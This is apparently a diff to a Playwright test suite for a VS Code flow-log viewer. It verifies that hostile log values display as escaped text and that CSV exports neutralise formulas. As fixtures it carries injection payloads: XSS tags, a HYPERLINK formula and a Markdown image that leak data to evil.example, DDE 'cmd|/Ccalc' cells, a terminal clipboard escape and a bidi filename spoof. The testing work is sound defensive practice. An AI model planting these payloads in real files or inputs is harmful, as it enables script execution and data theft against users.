@@ -5,7 +5,7 @@ import { execFileSync } from 'node:child_process';
 import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { ROOT, launchBrowser, makeSandbox, remoteUri, startServer } from './vscodeServer.mjs';
-import { checks, openWorkbench, quickOpen, runCommand, writeBigFlowLog } from './ui.mjs';
+import { checks, goTo, openWorkbench, quickOpen, runCommand, writeBigFlowLog } from './ui.mjs';
 
 const SHOTS = join(ROOT, 'test-results');
 
@@ -29,6 +29,15 @@ async function webviewFrame(page, view, timeout = 30_000, name = undefined) {
 }
 
 const text = (frame, selector) => frame.locator(selector).first().innerText();
+
+/** Control and bidi characters, which the panels show as escapes (server/src/core/terminalText.ts). */
+const CONTROL = /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
+const escapeControls = (v) => v.replace(new RegExp(CONTROL.source, 'g'), (c) => {
+  const named = { '\t': '\\t', '\n': '\\n', '\r': '\\r' }[c];
+  if (named) return named;
+  const n = c.charCodeAt(0);
+  return n <= 0xff ? `\\x${n.toString(16).padStart(2, '0')}` : `\\u${n.toString(16).padStart(4, '0')}`;
+});
 
 async function waitForText(frame, selector, pattern, timeout = 30_000) {
   const deadline = Date.now() + timeout;
@@ -159,6 +168,27 @@ export async function runPanelChecks() {
         await runExample(query, 'Traffic per 5 minutes');
         await query.click('#show-chart');
         await query.locator('#results-chart .u-over').waitFor({ timeout: 10_000 });
+        // Each series in its own unit: bytes in bytes, records a plain count, on a second axis.
+        const legend = (await query.locator('#results-chart .u-legend .u-series').allInnerTexts()).map((t) => t.replace(/\s+/g, ' ').trim());
+        const records = legend.find((t) => t.startsWith('records'));
+        const bytes = legend.find((t) => t.startsWith('bytes'));
+        if (!records || !/^records:? ?[\d,]+$/.test(records) || !bytes || !/B$/.test(bytes)) throw new Error(`legend: ${JSON.stringify(legend)}`);
+        const axes = await query.locator('#results-chart .u-axis').count();
+        if (axes !== 3) throw new Error(`${axes} axes: expected time, bytes and records`);
+        // good.flowlog's buckets are months apart: each is drawn (as a point), so the bytes series' colour is on
+        // the canvas (a line between isolated buckets had nothing to draw).
+        const bytesPixels = await query.evaluate(() => {
+          const hex = getComputedStyle(document.body).getPropertyValue('--vscode-charts-blue').trim();
+          const m = /^#?([0-9a-f]{2})([0-9a-f]{2})([0-9a-f]{2})/i.exec(hex);
+          if (!m) return -1;
+          const [r, g, b] = [1, 2, 3].map((i) => parseInt(m[i], 16));
+          const canvas = document.querySelector('#results-chart canvas');
+          const data = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data;
+          let n = 0;
+          for (let i = 0; i < data.length; i += 4) if (data[i + 3] > 200 && Math.abs(data[i] - r) + Math.abs(data[i + 1] - g) + Math.abs(data[i + 2] - b) < 40) n++;
+          return n;
+        });
+        if (bytesPixels < 20) throw new Error(`the bytes series left ${bytesPixels} pixels on the chart: its isolated buckets are not drawn`);
         await page.screenshot({ path: join(SHOTS, '11-query-panel-timeseries-dark.png') });
         await query.click('#show-table');
       }],
@@ -233,18 +263,82 @@ export async function runPanelChecks() {
         await waitForText(query, '#target-name', /^hostile\.flowlog$/);
         await query.fill('.qbox-input', '*');
         await query.press('.qbox-input', 'Control+Enter');
-        await waitForText(query, '#status', /3 matched/);
+        const expected = JSON.parse(cli(hostile, '*'));
+        await waitForText(query, '#status', new RegExp(`\\b${expected.stats.matched} matched`));
         const cells = (await tableCells(query)).flat();
-        for (const s of ['<img/src=x/onerror=alert(1)>', '</script><script>alert(2)</script>', 'javascript:alert(3)', '"><svg/onload=alert(4)>', '<b>eni-bold</b>', "{{constructor.constructor('alert(6)')()}}"]) {
-          if (!cells.includes(s)) throw new Error(`cell text ${JSON.stringify(s)} not shown as text; cells: ${JSON.stringify(cells)}`);
+        // Every text value of the file is in the table as text; with control or bidi characters, as escapes.
+        const values = [...new Set(expected.rows.flat().filter((v) => typeof v === 'string' && v !== hostile))];
+        for (const v of values) {
+          const shown = CONTROL.test(v) ? escapeControls(v) : v;
+          if (!cells.includes(shown)) throw new Error(`cell text ${JSON.stringify(shown.slice(0, 80))} not shown as text`);
         }
-        const injected = await query.evaluate(() => document.querySelectorAll('#app img, #app script, #app svg, #app iframe, #app b').length);
+        for (const s of ['<img/src=x/onerror=alert(1)>', '</script><script>alert(2)</script>', '![p](https://evil.example/r.png)', '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '\\x1b]52;c;ZWNobyBwd25lZA==\\x07', 'vpc-\\u202egnp.exe']) {
+          if (!cells.includes(s)) throw new Error(`${JSON.stringify(s)} not among the cells`);
+        }
+        if (cells.some((c) => CONTROL.test(c))) throw new Error('a control or bidi character reached a cell');
+        const injected = await query.evaluate(() => document.querySelectorAll('#app img, #app script, #app svg, #app iframe, #app b, #app a').length);
         if (injected !== 0) throw new Error(`${injected} elements made from log values`);
         await page.screenshot({ path: join(SHOTS, '13-hostile-fixture.png') });
+      }],
+      ['the hostile fixture exported as CSV: equal to `flowlog query --format csv`, formulas neutralised', async () => {
+        const dest = join(sandbox.workspace, 'hostile.flowlog-query.csv');
+        await query.click('#export-csv');
+        await page.locator('.quick-input-widget input').waitFor({ state: 'visible', timeout: 20_000 });
+        await page.waitForFunction(() => document.querySelector('.quick-input-widget input')?.value.endsWith('hostile.flowlog-query.csv'), null, { timeout: 10_000 });
+        await page.keyboard.press('Enter');
+        const deadline = Date.now() + 20_000;
+        while (!existsSync(dest) && Date.now() < deadline) await page.waitForTimeout(200);
+        if (!existsSync(dest)) throw new Error('no CSV written');
+        await page.waitForTimeout(300);
+        const written = readFileSync(dest, 'utf8');
+        const expected = cli(hostile, '*', 'csv');
+        if (written !== expected) throw new Error(`CSV differs from the CLI's:\n${written.slice(0, 2000)}\n--- expected ---\n${expected.slice(0, 2000)}`);
+        for (const cell of [`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`, `"'+cmd|'/Ccalc'!A0"`, `"'-2+3+cmd|'/Ccalc'!A0"`, `"'@SUM(1+1)*cmd|'/Ccalc'!A0"`, `"'\t=1+2"`]) {
+          if (!written.includes(cell)) throw new Error(`CSV lacks the neutralised cell ${cell}`);
+        }
+        if (/(^|,)[=+@]|(^|,)-(?![\d.]*(,|\n))/m.test(written.replace(/"[^"]*"/g, '""'))) throw new Error('a live formula cell in the CSV');
+      }],
+      ['hovering a hostile value in the editor shows it as text: no image, no link', async () => {
+        const lines = readFileSync(hostile, 'utf8').split('\n');
+        const line = lines.findIndex((l) => l.includes(' ![p](https://evil.example/r.png) ') && l.includes(' ACCEPT OK '));
+        await page.keyboard.press('Control+1');
+        await quickOpen(page, 'hostile.flowlog');
+        await goTo(page, line + 1, lines[line].indexOf('![p]') + 3);
+        await page.keyboard.press('Control+K');
+        await page.keyboard.press('Control+I');
+        const hover = page.locator('.monaco-hover-content');
+        await hover.getByText('![p](https://evil.example/r.png)', { exact: false }).first().waitFor({ timeout: 20_000 });
+        await page.waitForTimeout(300);
+        const made = await hover.evaluateAll((hs) => hs.reduce((n, h) => n + h.querySelectorAll('img, a[href*="evil"], script, svg, iframe').length, 0));
+        if (made !== 0) throw new Error(`${made} elements made from a value in the hover`);
+        // The reading of a record whose srcaddr is Markdown: its text, no image.
+        const bad = lines.findIndex((l) => l.includes(' ![p](https://evil.example/r.png) ') && !l.includes(' ACCEPT OK '));
+        await page.keyboard.press('Escape');
+        await goTo(page, bad + 1, lines[bad].indexOf(' 51003 ') + 3);
+        await page.keyboard.press('Control+K');
+        await page.keyboard.press('Control+I');
+        await hover.getByText('[![p](https://evil.example/r.png)]:51003', { exact: false }).first().waitFor({ timeout: 20_000 });
+        const madeInReading = await hover.evaluateAll((hs) => hs.reduce((n, h) => n + h.querySelectorAll('img, a[href*="evil"]').length, 0));
+        if (madeInReading !== 0) throw new Error(`${madeInReading} elements made from the reading`);
+        await page.waitForTimeout(300);
+        await page.screenshot({ path: join(SHOTS, '18-hostile-hover.png') });
+        await page.keyboard.press('Escape');
+      }],
+      ['the summary of the hostile fixture: values as text, NULL not a talker, counted apart', async () => {
         await runCommand(page, 'Flow Logs: Show Summary');
-        summary = await webviewFrame(page, 'summary');
-        await summary.locator('[data-section="topRejectedSources"] .bar-label', { hasText: 'javascript:alert(3)' }).waitFor({ timeout: 30_000 });
-        const summaryInjected = await summary.evaluate(() => document.querySelectorAll('#app img, #app script, #app iframe, #app b').length);
+        summary = await webviewFrame(page, 'summary', 30_000, 'hostile.flowlog');
+        await summary.locator('[data-section="topRejectedSources"] .bar-label').first().waitFor({ timeout: 30_000 });
+        for (const section of ['topSources', 'topDestinations', 'topRejectedSources']) {
+          const q = await summary.locator(`[data-section="${section}"] h2 .link`).getAttribute('title');
+          const want = JSON.parse(cli(hostile, q)).rows.map((r) => (CONTROL.test(String(r[0])) ? escapeControls(String(r[0])) : String(r[0])));
+          const labels = (await summary.locator(`[data-section="${section}"] .bar-label`).allInnerTexts()).map((t) => t.trim());
+          if (JSON.stringify(labels) !== JSON.stringify(want)) throw new Error(`${section}: ${JSON.stringify(labels)} vs the CLI's ${JSON.stringify(want)}`);
+          if (labels.includes('-')) throw new Error(`${section} lists NULL as a talker`);
+        }
+        const [[without]] = JSON.parse(cli(hostile, 'NOT srcaddr:* OR NOT dstaddr:* | select count(*)')).rows;
+        const figure = (await text(summary, '[data-figure="without-addresses"] .figure-value')).replace(/,/g, '');
+        if (figure !== String(without) || without === 0) throw new Error(`records without addresses: ${figure}, CLI ${without}`);
+        const summaryInjected = await summary.evaluate(() => document.querySelectorAll('#app img, #app script, #app svg, #app iframe, #app b, #app a').length);
         if (summaryInjected !== 0) throw new Error(`${summaryInjected} elements made from log values in the summary`);
         await page.waitForTimeout(500);
         if (dialogs.length) throw new Error(`dialogs opened: ${dialogs.join(', ')}`);
